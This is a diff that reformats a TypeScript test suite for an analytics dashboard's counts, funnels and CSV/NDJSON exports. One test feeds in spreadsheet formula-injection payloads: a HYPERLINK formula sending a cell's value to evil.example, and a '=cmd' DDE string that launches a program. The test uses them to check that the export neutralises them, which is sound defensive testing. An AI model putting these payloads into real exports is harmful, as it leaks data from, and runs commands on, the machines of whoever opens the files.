@@ -24,17 +24,49 @@ const dayString = (daysAgo: number) => new Date(Date.now() - daysAgo * DAY_MS).t
 /** noon UTC of that day (+ seconds): never in the future, and far from midnight */
 const noon = (daysAgo: number, second: number) => String(Date.parse(`${dayString(daysAgo)}T12:00:00Z`) + second * 1000);
 
-const FULL_FUNNEL = ['app-init', 'connection-started', 'connection-completed', 'transaction-sent-for-signature', 'transaction-signed'];
-const TRICKY = { name: 'checkout', note: 'a, "quoted" value\nsecond line, with comma', empty: '', nested: { list: [1, 'two, "three"'] } };
+const FULL_FUNNEL = [
+  'app-init',
+  'connection-started',
+  'connection-completed',
+  'transaction-sent-for-signature',
+  'transaction-signed',
+];
+const TRICKY = {
+  name: 'checkout',
+  note: 'a, "quoted" value\nsecond line, with comma',
+  empty: '',
+  nested: { list: [1, 'two, "three"'] },
+};
 const U = [7100000001, 7100000002, 7100000003, 7100000004];
-const CSV_HEADER = 'received_at,occurred_at,event_name,session_id,user,platform,locale,start_param,is_premium,is_success,props';
+const CSV_HEADER =
+  'received_at,occurred_at,event_name,session_id,user,platform,locale,start_param,is_premium,is_success,props';
 
 /** sessions: user, day (days ago), launch dimensions and the events in order */
 const SESSIONS = [
   { user: U[0], ago: 1, platform: 'ios', locale: 'en', start: 'ads', events: [...FULL_FUNNEL, 'app-hide'] },
-  { user: U[1], ago: 1, platform: 'android', locale: 'ru', start: '', events: ['app-init', 'connection-started', 'connection-completed', 'custom-event'] },
+  {
+    user: U[1],
+    ago: 1,
+    platform: 'android',
+    locale: 'ru',
+    start: '',
+    events: ['app-init', 'connection-started', 'connection-completed', 'custom-event'],
+  },
   { user: U[0], ago: 1, platform: 'tdesktop', locale: 'en', start: 'ads', events: ['app-init', 'connection-started'] },
-  { user: U[2], ago: 2, platform: 'ios', locale: 'de', start: 'friend', events: ['app-init', 'connection-started', 'connection-completed', 'transaction-sent-for-signature', 'transaction-signing-failed'] },
+  {
+    user: U[2],
+    ago: 2,
+    platform: 'ios',
+    locale: 'de',
+    start: 'friend',
+    events: [
+      'app-init',
+      'connection-started',
+      'connection-completed',
+      'transaction-sent-for-signature',
+      'transaction-signing-failed',
+    ],
+  },
   { user: U[1], ago: 2, platform: 'android', locale: 'ru', start: '', events: ['app-init', 'custom-event'] },
   { user: U[3], ago: 5, platform: 'weba', locale: 'en', start: 'ads', events: FULL_FUNNEL },
   // in the last 30 days only
@@ -80,19 +112,40 @@ describe('dashboard numbers and exports', () => {
         users: 2,
         sessions: 3,
         events: 12,
-        byName: { 'app-init': 3, 'connection-started': 3, 'connection-completed': 2, 'transaction-sent-for-signature': 1, 'transaction-signed': 1, 'app-hide': 1, 'custom-event': 1 },
+        byName: {
+          'app-init': 3,
+          'connection-started': 3,
+          'connection-completed': 2,
+          'transaction-sent-for-signature': 1,
+          'transaction-signed': 1,
+          'app-hide': 1,
+          'custom-event': 1,
+        },
       },
       [dayString(2)]: {
         users: 2,
         sessions: 2,
         events: 7,
-        byName: { 'app-init': 2, 'connection-started': 1, 'connection-completed': 1, 'transaction-sent-for-signature': 1, 'transaction-signing-failed': 1, 'custom-event': 1 },
+        byName: {
+          'app-init': 2,
+          'connection-started': 1,
+          'connection-completed': 1,
+          'transaction-sent-for-signature': 1,
+          'transaction-signing-failed': 1,
+          'custom-event': 1,
+        },
       },
       [dayString(5)]: {
         users: 1,
         sessions: 1,
         events: 5,
-        byName: { 'app-init': 1, 'connection-started': 1, 'connection-completed': 1, 'transaction-sent-for-signature': 1, 'transaction-signed': 1 },
+        byName: {
+          'app-init': 1,
+          'connection-started': 1,
+          'connection-completed': 1,
+          'transaction-sent-for-signature': 1,
+          'transaction-signed': 1,
+        },
       },
     } as Record<string, { users: number; sessions: number; events: number; byName: Record<string, number> }>,
     funnel: [
@@ -102,9 +155,22 @@ describe('dashboard numbers and exports', () => {
       { name: 'transaction-signed', events: 2, fromPrevious: 2 / 3, fromFirst: 0.4 },
     ],
     dimensions: {
-      platform: [{ value: 'android', sessions: 2 }, { value: 'ios', sessions: 2 }, { value: 'tdesktop', sessions: 1 }, { value: 'weba', sessions: 1 }],
-      locale: [{ value: 'en', sessions: 3 }, { value: 'ru', sessions: 2 }, { value: 'de', sessions: 1 }],
-      start_param: [{ value: 'ads', sessions: 3 }, { value: '', sessions: 2 }, { value: 'friend', sessions: 1 }],
+      platform: [
+        { value: 'android', sessions: 2 },
+        { value: 'ios', sessions: 2 },
+        { value: 'tdesktop', sessions: 1 },
+        { value: 'weba', sessions: 1 },
+      ],
+      locale: [
+        { value: 'en', sessions: 3 },
+        { value: 'ru', sessions: 2 },
+        { value: 'de', sessions: 1 },
+      ],
+      start_param: [
+        { value: 'ads', sessions: 3 },
+        { value: '', sessions: 2 },
+        { value: 'friend', sessions: 1 },
+      ],
     },
     eventNames: [
       { name: 'app-init', events: 6 },
@@ -126,7 +192,10 @@ describe('dashboard numbers and exports', () => {
     expect(dashboard.totals).toEqual(WEEK.totals);
     expect(dashboard.days.map((day: { day: string }) => day.day)).toEqual([6, 5, 4, 3, 2, 1, 0].map(dayString));
     for (const day of dashboard.days) {
-      expect(day, day.day).toEqual({ day: day.day, ...(WEEK.days[day.day] ?? { users: 0, sessions: 0, events: 0, byName: {} }) });
+      expect(day, day.day).toEqual({
+        day: day.day,
+        ...(WEEK.days[day.day] ?? { users: 0, sessions: 0, events: 0, byName: {} }),
+      });
     }
     expect(dashboard.funnel).toHaveLength(4);
     dashboard.funnel.forEach((step: (typeof WEEK.funnel)[number], index: number) => {
@@ -149,12 +218,22 @@ describe('dashboard numbers and exports', () => {
     expect(month.days).toHaveLength(30);
     expect(month.totals).toEqual({ events: 26, users: 4, sessions: 7 });
     expect(month.funnel.map((step: { events: number }) => step.events)).toEqual([6, 4, 3, 2]);
-    expect(month.dimensions.platform).toEqual([{ value: 'ios', sessions: 3 }, { value: 'android', sessions: 2 }, { value: 'tdesktop', sessions: 1 }, { value: 'weba', sessions: 1 }]);
+    expect(month.dimensions.platform).toEqual([
+      { value: 'ios', sessions: 3 },
+      { value: 'android', sessions: 2 },
+      { value: 'tdesktop', sessions: 1 },
+      { value: 'weba', sessions: 1 },
+    ]);
     expect(month.dimensions.start_param).toContainEqual({ value: 'old', sessions: 1 });
     const quarter = (await alice.get(`/api/apps/${APP}/dashboard?days=90`)).json;
     expect(quarter.days).toHaveLength(90);
     expect(quarter.totals).toEqual({ events: 27, users: 4, sessions: 8 });
-    expect(quarter.dimensions.locale).toEqual([{ value: 'en', sessions: 4 }, { value: 'ru', sessions: 2 }, { value: 'de', sessions: 1 }, { value: 'fr', sessions: 1 }]);
+    expect(quarter.dimensions.locale).toEqual([
+      { value: 'en', sessions: 4 },
+      { value: 'ru', sessions: 2 },
+      { value: 'de', sessions: 1 },
+      { value: 'fr', sessions: 1 },
+    ]);
     for (const days of ['1', '365', 'abc', '']) {
       const bad = await alice.get(`/api/apps/${APP}/dashboard?days=${days}`);
       expect(bad.status, days).toBe(400);
@@ -196,11 +275,22 @@ describe('dashboard numbers and exports', () => {
       });
       for (const day of dashboard.days) {
         const row = raw.get(day.day) ?? { users: 0, sessions: 0, events: 0 };
-        expect({ users: day.users, sessions: day.sessions, events: day.events }, day.day).toEqual({ users: row.users, sessions: row.sessions, events: row.events });
-        const names = Object.fromEntries(perName.filter((entry) => entry.day === day.day).map((entry) => [entry.event_name, entry.events]));
+        expect({ users: day.users, sessions: day.sessions, events: day.events }, day.day).toEqual({
+          users: row.users,
+          sessions: row.sessions,
+          events: row.events,
+        });
+        const names = Object.fromEntries(
+          perName.filter((entry) => entry.day === day.day).map((entry) => [entry.event_name, entry.events]),
+        );
         expect(day.byName, day.day).toEqual(names);
       }
-      const funnelSql = ['connection-started', 'connection-completed', 'transaction-sent-for-signature', 'transaction-signed'].map((name) =>
+      const funnelSql = [
+        'connection-started',
+        'connection-completed',
+        'transaction-sent-for-signature',
+        'transaction-signed',
+      ].map((name) =>
         perName.filter((entry) => entry.event_name === name).reduce((sum, entry) => sum + entry.events, 0),
       );
       // in this data set every session has each step at most once: counted as events or as sessions, the same
@@ -208,9 +298,11 @@ describe('dashboard numbers and exports', () => {
         `SELECT event_name, count(DISTINCT (day, session_id))::int AS sessions FROM events WHERE ${where} GROUP BY 1`,
         args,
       );
-      expect(funnelSql).toEqual(['connection-started', 'connection-completed', 'transaction-sent-for-signature', 'transaction-signed'].map(
-        (name) => funnelSessions.find((row) => row.event_name === name)?.sessions ?? 0,
-      ));
+      expect(funnelSql).toEqual(
+        ['connection-started', 'connection-completed', 'transaction-sent-for-signature', 'transaction-signed'].map(
+          (name) => funnelSessions.find((row) => row.event_name === name)?.sessions ?? 0,
+        ),
+      );
       expect(dashboard.funnel.map((step: { events: number }) => step.events)).toEqual(funnelSql);
       for (const dimension of ['platform', 'locale', 'start_param']) {
         const expected = dimensions
@@ -225,16 +317,37 @@ describe('dashboard numbers and exports', () => {
   it('shows the recent events (no user key) and the recent rejections with their reason', async () => {
     const recent = (await alice.get(`/api/apps/${APP}/recent`)).json;
     expect(recent).toHaveLength(25);
-    expect(Object.keys(recent[0]).sort()).toEqual(['eventName', 'isPremium', 'isSuccess', 'locale', 'occurredAt', 'platform', 'props', 'receivedAt', 'sessionId', 'startParam']);
+    expect(Object.keys(recent[0]).sort()).toEqual([
+      'eventName',
+      'isPremium',
+      'isSuccess',
+      'locale',
+      'occurredAt',
+      'platform',
+      'props',
+      'receivedAt',
+      'sessionId',
+      'startParam',
+    ]);
     expect(JSON.stringify(recent)).not.toMatch(/71000000\d\d/);
     // latest received first; among the events of one request, the latest to happen first
     const order = (event: { receivedAt: string; occurredAt: string }) => `${event.receivedAt} ${event.occurredAt}`;
     expect(recent.map(order)).toEqual(recent.map(order).sort().reverse());
 
-    const wrongOrigin = await postEvents(service.url, makeEvent(APP), { token: seedToken, origin: 'https://copycat.example' });
+    const wrongOrigin = await postEvents(service.url, makeEvent(APP), {
+      token: seedToken,
+      origin: 'https://copycat.example',
+    });
     expect(wrongOrigin.status).toBe(403);
     const dashboard = (await alice.get(`/api/apps/${APP}/dashboard?days=7`)).json;
-    expect(dashboard.rejections).toEqual([expect.objectContaining({ status: 403, message: 'The domain name does not match.', origin: 'https://copycat.example', count: 1 })]);
+    expect(dashboard.rejections).toEqual([
+      expect.objectContaining({
+        status: 403,
+        message: 'The domain name does not match.',
+        origin: 'https://copycat.example',
+        count: 1,
+      }),
+    ]);
     expect(dashboard.app.last_rejection).toMatchObject({ status: 403, origin: 'https://copycat.example' });
     expect(dashboard.totals).toEqual(WEEK.totals);
   });
@@ -261,39 +374,67 @@ describe('dashboard numbers and exports', () => {
     return rows;
   }
 
-  it('exports exactly the period\'s events as CSV, with quoting that survives commas, quotes and newlines', async () => {
+  it("exports exactly the period's events as CSV, with quoting that survives commas, quotes and newlines", async () => {
     const userKeys = new Map(
-      (await service.store.sql.query<{ key: string; day: string; session_id: string }>(
-        `SELECT encode(user_key, 'hex') AS key, day::text, session_id::text FROM events WHERE app_id = $1`,
-        [appId],
-      )).map((row) => [row.session_id, row.key]),
+      (
+        await service.store.sql.query<{ key: string; day: string; session_id: string }>(
+          `SELECT encode(user_key, 'hex') AS key, day::text, session_id::text FROM events WHERE app_id = $1`,
+          [appId],
+        )
+      ).map((row) => [row.session_id, row.key]),
     );
     for (const days of [7, 30, 90]) {
       const dashboard = (await alice.get(`/api/apps/${APP}/dashboard?days=${days}`)).json;
       const answer = await alice.get(`/api/apps/${APP}/export.csv?days=${days}`);
       expect(answer.status).toBe(200);
       expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
-      expect(answer.headers.get('content-disposition')).toBe(`attachment; filename="${APP}-${dashboard.period.from}-${dashboard.period.to}.csv"`);
+      expect(answer.headers.get('content-disposition')).toBe(
+        `attachment; filename="${APP}-${dashboard.period.from}-${dashboard.period.to}.csv"`,
+      );
       for (const id of U) expect(answer.text).not.toContain(String(id));
       const [header, ...rows] = parseCsv(answer.text);
-      expect(header).toEqual(['received_at', 'occurred_at', 'event_name', 'session_id', 'user', 'platform', 'locale', 'start_param', 'is_premium', 'is_success', 'props']);
+      expect(header).toEqual([
+        'received_at',
+        'occurred_at',
+        'event_name',
+        'session_id',
+        'user',
+        'platform',
+        'locale',
+        'start_param',
+        'is_premium',
+        'is_success',
+        'props',
+      ]);
       expect(rows, `${days} days`).toHaveLength(dashboard.totals.events);
       for (const row of rows) {
         expect(row).toHaveLength(header!.length);
         const record = Object.fromEntries(header!.map((column, index) => [column, row[index]!]));
-        expect(record.occurred_at!.slice(0, 10) >= dashboard.period.from && record.occurred_at!.slice(0, 10) <= dashboard.period.to).toBe(true);
+        expect(
+          record.occurred_at!.slice(0, 10) >= dashboard.period.from &&
+            record.occurred_at!.slice(0, 10) <= dashboard.period.to,
+        ).toBe(true);
         expect(record.user).toMatch(/^[0-9a-f]{32}$/);
         expect(record.user).toBe(userKeys.get(record.session_id!));
       }
       const custom = rows.filter((row) => row[2] === 'custom-event').map((row) => JSON.parse(row[10]!));
-      expect(custom).toEqual(expect.arrayContaining([{ custom_data: { ...TRICKY, session: 1 } }, { custom_data: { ...TRICKY, session: 4 } }]));
+      expect(custom).toEqual(
+        expect.arrayContaining([
+          { custom_data: { ...TRICKY, session: 1 } },
+          { custom_data: { ...TRICKY, session: 4 } },
+        ]),
+      );
       const counts: Record<string, number> = {};
       for (const row of rows) counts[row[2]!] = (counts[row[2]!] ?? 0) + 1;
-      expect(Object.entries(counts).map(([name, events]) => ({ name, events })).sort((a, b) => b.events - a.events || a.name.localeCompare(b.name))).toEqual(dashboard.eventNames);
+      expect(
+        Object.entries(counts)
+          .map(([name, events]) => ({ name, events }))
+          .sort((a, b) => b.events - a.events || a.name.localeCompare(b.name)),
+      ).toEqual(dashboard.eventNames);
     }
   });
 
-  it('exports exactly the period\'s events as NDJSON', async () => {
+  it("exports exactly the period's events as NDJSON", async () => {
     for (const days of [7, 30, 90]) {
       const dashboard = (await alice.get(`/api/apps/${APP}/dashboard?days=${days}`)).json;
       const answer = await alice.get(`/api/apps/${APP}/export.ndjson?days=${days}`);
@@ -301,11 +442,28 @@ describe('dashboard numbers and exports', () => {
       expect(answer.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
       for (const id of U) expect(answer.text).not.toContain(String(id));
       expect(answer.text.endsWith('\n')).toBe(true);
-      const records = answer.text.trimEnd().split('\n').map((line) => JSON.parse(line));
+      const records = answer.text
+        .trimEnd()
+        .split('\n')
+        .map((line) => JSON.parse(line));
       expect(records, `${days} days`).toHaveLength(dashboard.totals.events);
-      expect(Object.keys(records[0]).sort()).toEqual(['event_name', 'is_premium', 'is_success', 'locale', 'occurred_at', 'platform', 'props', 'received_at', 'session_id', 'start_param', 'user']);
+      expect(Object.keys(records[0]).sort()).toEqual([
+        'event_name',
+        'is_premium',
+        'is_success',
+        'locale',
+        'occurred_at',
+        'platform',
+        'props',
+        'received_at',
+        'session_id',
+        'start_param',
+        'user',
+      ]);
       expect(new Set(records.map((record) => record.user)).size).toBe(dashboard.totals.users);
-      expect(records.filter((record) => record.event_name === 'custom-event').map((record) => record.props.custom_data.note)).toEqual([TRICKY.note, TRICKY.note]);
+      expect(
+        records.filter((record) => record.event_name === 'custom-event').map((record) => record.props.custom_data.note),
+      ).toEqual([TRICKY.note, TRICKY.note]);
     }
     expect((await alice.get(`/api/apps/${APP}/export.xml?days=7`)).status).toBe(404);
     expect((await alice.get(`/api/apps/${APP}/export.csv?days=12`)).status).toBe(400);
@@ -315,7 +473,12 @@ describe('dashboard numbers and exports', () => {
     const token = await create(alice, 'csv_formula');
     const hostile = 'x;=HYPERLINK("https://evil.example/?"&A1;"open");+1|@SUM(1)\t-2,=3';
     const events = [
-      makeEvent('csv_formula', { platform: '=cmd|" /C calc"!A0', locale: 'en;=1+1', start_param: '@import', custom_data: { note: hostile, list: ['a;-1+2', 'b|=3'], n: -5 } }),
+      makeEvent('csv_formula', {
+        platform: '=cmd|" /C calc"!A0',
+        locale: 'en;=1+1',
+        start_param: '@import',
+        custom_data: { note: hostile, list: ['a;-1+2', 'b|=3'], n: -5 },
+      }),
       makeEvent('csv_formula', { platform: 'ios', custom_data: { note: 'plain' } }),
     ];
     const posted = await postEvents(service.url, events, { token, origin: 'https://csv-formula.example.com' });
@@ -330,14 +493,17 @@ describe('dashboard numbers and exports', () => {
     for (const separator of [',', ';', '\t', '|']) {
       for (const line of lines) {
         for (const piece of line!.split(separator)) {
-          expect(piece.replace(/^"/, ''), `split on ${JSON.stringify(separator)}: ${piece}`).not.toMatch(/^[=+\-@\t\r]/);
+          expect(piece.replace(/^"/, ''), `split on ${JSON.stringify(separator)}: ${piece}`).not.toMatch(
+            /^[=+\-@\t\r]/,
+          );
         }
       }
     }
     const rows = parseCsv(answer.text).slice(1);
     for (const row of rows) {
       expect(row).toHaveLength(11);
-      for (const [index, cell] of row.entries()) if (![8, 9].includes(index)) expect(lines.join('\n')).toContain(`"${cell.replace(/"/g, '""')}"`);
+      for (const [index, cell] of row.entries())
+        if (![8, 9].includes(index)) expect(lines.join('\n')).toContain(`"${cell.replace(/"/g, '""')}"`);
     }
     const record = rows.find((row) => row[10]!.includes('HYPERLINK'))!;
     // the props stay the exact JSON of what was sent
@@ -367,17 +533,47 @@ describe('wallet funnel of real sessions', () => {
     const twice = crypto.randomUUID();
     const restored = crypto.randomUUID();
     const steps = (session: string, user: number, names: string[]) =>
-      names.map((event_name, index) => makeEvent('funnel_app', { event_name, session_id: session, user_id: user, client_timestamp: noon(1, index), custom_data: { index } }));
+      names.map((event_name, index) =>
+        makeEvent('funnel_app', {
+          event_name,
+          session_id: session,
+          user_id: user,
+          client_timestamp: noon(1, index),
+          custom_data: { index },
+        }),
+      );
     const events = [
-      ...steps(twice, 7300000001, ['app-init', 'connection-started', 'connection-completed', 'transaction-sent-for-signature', 'transaction-signed', 'transaction-sent-for-signature', 'transaction-signed', 'transaction-sent-for-signature', 'transaction-signed']),
-      ...steps(restored, 7300000002, ['app-init', 'connection-restoring-completed', 'transaction-sent-for-signature', 'transaction-signed']),
+      ...steps(twice, 7300000001, [
+        'app-init',
+        'connection-started',
+        'connection-completed',
+        'transaction-sent-for-signature',
+        'transaction-signed',
+        'transaction-sent-for-signature',
+        'transaction-signed',
+        'transaction-sent-for-signature',
+        'transaction-signed',
+      ]),
+      ...steps(restored, 7300000002, [
+        'app-init',
+        'connection-restoring-completed',
+        'transaction-sent-for-signature',
+        'transaction-signed',
+      ]),
     ];
-    expect((await postEvents(service.url, events, { token, origin: 'https://funnel-app.example.com' })).status).toBe(201);
-    const { funnel } = (await alice.get('/api/apps/funnel_app/dashboard?days=7')).json as { funnel: { name: string; sessions: number; fromPrevious: number | null; fromFirst: number | null }[] };
-    const shown = funnel.map((step) => `${step.name} ${step.sessions} (${step.fromPrevious}, ${step.fromFirst})`).join('; ');
+    expect((await postEvents(service.url, events, { token, origin: 'https://funnel-app.example.com' })).status).toBe(
+      201,
+    );
+    const { funnel } = (await alice.get('/api/apps/funnel_app/dashboard?days=7')).json as {
+      funnel: { name: string; sessions: number; fromPrevious: number | null; fromFirst: number | null }[];
+    };
+    const shown = funnel
+      .map((step) => `${step.name} ${step.sessions} (${step.fromPrevious}, ${step.fromFirst})`)
+      .join('; ');
     funnel.forEach((step, index) => {
       if (index > 0) expect(step.sessions, shown).toBeLessThanOrEqual(funnel[index - 1]!.sessions);
-      for (const rate of [step.fromPrevious, step.fromFirst]) if (rate !== null) expect(rate, shown).toBeLessThanOrEqual(1);
+      for (const rate of [step.fromPrevious, step.fromFirst])
+        if (rate !== null) expect(rate, shown).toBeLessThanOrEqual(1);
     });
     // only the first session took the steps in order; the restored one never started a connection here
     expect(funnel.map((step) => step.sessions)).toEqual([1, 1, 1, 1]);
@@ -385,7 +581,7 @@ describe('wallet funnel of real sessions', () => {
 });
 
 describe('dashboard and exports beyond one page of data', () => {
-  it('keeps every dimension\'s top values when another dimension has hundreds of values', async () => {
+  it("keeps every dimension's top values when another dimension has hundreds of values", async () => {
     // 320 sessions, each from its own campaign link; all but one on iOS, one on the web
     const token = await create(alice, 'campaigns_app');
     const events = Array.from({ length: 320 }, (_, index) =>
@@ -398,32 +594,49 @@ describe('dashboard and exports beyond one page of data', () => {
       }),
     );
     for (let start = 0; start < events.length; start += 100) {
-      const sent = await postEvents(service.url, events.slice(start, start + 100), { token, origin: 'https://campaigns-app.example.com' });
+      const sent = await postEvents(service.url, events.slice(start, start + 100), {
+        token,
+        origin: 'https://campaigns-app.example.com',
+      });
       expect(sent.status, sent.text).toBe(201);
     }
     const dashboard = (await alice.get('/api/apps/campaigns_app/dashboard?days=7')).json;
     expect(dashboard.totals).toEqual({ events: 320, users: 320, sessions: 320 });
     expect(dashboard.dimensions.locale).toEqual([{ value: 'en', sessions: 320 }]);
-    expect(dashboard.dimensions.start_param).toEqual(Array.from({ length: 20 }, (_, index) => ({ value: `campaign_${String(index).padStart(3, '0')}`, sessions: 1 })));
-    expect(dashboard.dimensions.platform).toEqual([{ value: 'ios', sessions: 319 }, { value: 'weba', sessions: 1 }]);
+    expect(dashboard.dimensions.start_param).toEqual(
+      Array.from({ length: 20 }, (_, index) => ({ value: `campaign_${String(index).padStart(3, '0')}`, sessions: 1 })),
+    );
+    expect(dashboard.dimensions.platform).toEqual([
+      { value: 'ios', sessions: 319 },
+      { value: 'weba', sessions: 1 },
+    ]);
   });
 
   it('exports every event of a period larger than one export page (5,000 rows), each once', async () => {
     const token = await create(alice, 'volume_app');
     const total = 5_250;
     const batches = Array.from({ length: total / 50 }, (_, batch) =>
-      Array.from({ length: 50 }, (_, index) => makeEvent('volume_app', { user_id: 9100000000 + (batch % 7), custom_data: { n: batch * 50 + index } })),
+      Array.from({ length: 50 }, (_, index) =>
+        makeEvent('volume_app', { user_id: 9100000000 + (batch % 7), custom_data: { n: batch * 50 + index } }),
+      ),
     );
     // parallel requests: the group-commit writer stores many with the same received_at, so the export's
     // cursor has to page through ties
     for (let start = 0; start < batches.length; start += 15) {
-      const answers = await Promise.all(batches.slice(start, start + 15).map((body) => postEvents(service.url, body, { token, origin: 'https://volume-app.example.com' })));
+      const answers = await Promise.all(
+        batches
+          .slice(start, start + 15)
+          .map((body) => postEvents(service.url, body, { token, origin: 'https://volume-app.example.com' })),
+      );
       expect(answers.map((answer) => answer.status)).toEqual(answers.map(() => 201));
     }
     const dashboard = (await alice.get('/api/apps/volume_app/dashboard?days=7')).json;
     expect(dashboard.totals.events).toBe(total);
     const ndjson = await alice.get('/api/apps/volume_app/export.ndjson?days=7');
-    const numbers = ndjson.text.trimEnd().split('\n').map((line) => JSON.parse(line).props.custom_data.n as number);
+    const numbers = ndjson.text
+      .trimEnd()
+      .split('\n')
+      .map((line) => JSON.parse(line).props.custom_data.n as number);
     expect(numbers).toHaveLength(total);
     expect(new Set(numbers).size).toBe(total);
     const csv = await alice.get('/api/apps/volume_app/export.csv?days=7');
